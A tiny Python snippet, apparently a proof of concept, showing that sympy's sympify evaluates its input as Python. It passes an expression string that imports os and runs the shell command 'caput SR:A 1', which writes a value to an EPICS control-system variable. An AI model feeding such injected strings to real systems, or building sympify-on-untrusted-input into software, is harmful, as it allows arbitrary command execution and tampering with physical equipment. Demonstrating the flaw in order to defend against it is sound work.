# why: sympy evaluates texts as Python.
# ---
import sympy

sympy.sympify("__import__('os').system('caput SR:A 1')")
